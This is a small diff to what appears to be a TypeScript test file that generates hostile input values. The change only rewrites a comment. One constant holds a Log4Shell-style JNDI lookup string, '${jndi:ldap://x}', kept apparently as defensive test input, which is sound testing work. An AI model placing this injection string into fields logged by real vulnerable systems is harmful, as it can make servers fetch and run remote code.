@@ -27,7 +27,7 @@ function hostileValues(random: () => number, self: string): string[] {
   ];
 }
 
-// biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile label value, as attackers write it
+/** A hostile label value, as attackers write it. */
 const JNDI = "${jndi:ldap://x}";
 
 function mulberry32(seed: number): () => number {
